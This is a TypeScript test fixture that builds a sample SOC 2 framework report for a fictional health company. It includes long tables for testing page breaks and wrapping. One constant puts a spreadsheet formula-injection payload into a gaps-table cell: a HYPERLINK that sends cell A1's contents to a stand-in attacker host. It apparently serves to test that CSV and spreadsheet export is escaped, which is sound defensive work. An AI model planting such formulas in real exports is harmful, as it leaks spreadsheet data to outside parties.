import type { ReportCell, ReportDocument } from '@/lib/reports/document';

/** A cell that would run as a formula if a spreadsheet took it for one. */
export const FORMULA_TEXT = '=HYPERLINK("https://attacker.example/?q="&A1,"Open")';
/** A long requirement text, so table cells must wrap. */
export const LONG_TEXT =
  'Access to production systems is reviewed every quarter by the system owner, removals are made within one business day and the review is recorded with its evidence.';
export const REQUIREMENT_ROWS = 140;

const owners = ['Dana Whitfield', 'Omar Haddad', 'Priya Raman', null];
const statuses = ['Met', 'Partially met', 'Not met'];

function requirementRow(index: number): ReportCell[] {
  const number = index + 1;
  return [
    `CC${Math.floor(index / 10) + 1}.${(index % 10) + 1}`,
    number % 7 === 0 ? LONG_TEXT : `Requirement ${number} of the trust services criteria`,
    statuses[index % statuses.length]!,
    owners[index % owners.length]!,
    new Date(Date.UTC(2026, index % 12, (index % 28) + 1)),
    index % 5,
  ];
}

/** A framework report of Northwind Health with a long requirement table that spans several PDF pages. */
export function sampleDocument(): ReportDocument {
  return {
    title: 'SOC 2 Framework Report',
    organizationName: 'Northwind Health Ltd',
    kind: 'Framework',
    period: { start: '2026-01-01', end: '2026-03-31' },
    generatedAt: new Date('2026-04-02T09:30:00Z'),
    notes: 'Prepared for the quarterly board review.',
    sections: [
      {
        heading: 'Framework progress',
        paragraphs: ['SOC 2 is 62% complete with a readiness score of 71.5.', 'Three requirements moved to Met during the period.'],
        tables: [
          {
            title: 'Frameworks',
            columns: ['Framework', 'Progress (%)', 'Score', 'Last assessed'],
            rows: [
              ['SOC 2', 62, 71.5, new Date('2026-03-28T00:00:00Z')],
              ['ISO 27001', 40, 55.25, null],
            ],
          },
        ],
      },
      {
        heading: 'Requirements and controls',
        paragraphs: ['Every requirement of the framework with its control, status, owner and evidence count.'],
        tables: [
          {
            title: 'Requirements: status / owner [all]',
            columns: ['Requirement', 'Description', 'Status', 'Owner', 'Due', 'Evidence'],
            rows: Array.from({ length: REQUIREMENT_ROWS }, (_, index) => requirementRow(index)),
          },
        ],
      },
      {
        heading: 'Gaps',
        paragraphs: ['Requirements not met, with their controls and owners.'],
        tables: [
          {
            title: 'Gaps by control and the owner responsible for them',
            columns: ['Control', 'Owner', 'Note'],
            rows: [
              ['Access review', 'Omar Haddad', FORMULA_TEXT],
              ['Vendor register', 'Priya Raman', '+44 20 7946 0958'],
              ['Backup restore test', null, '-3 days overdue'],
            ],
          },
          {
            title: 'Gaps by control and the owner responsible, again',
            columns: ['Control', 'Owner'],
            rows: [],
          },
        ],
      },
      {
        heading: 'Summary for the board',
        paragraphs: ['No open CCPA issues at the end of the period.'],
        tables: [],
      },
    ],
  };
}
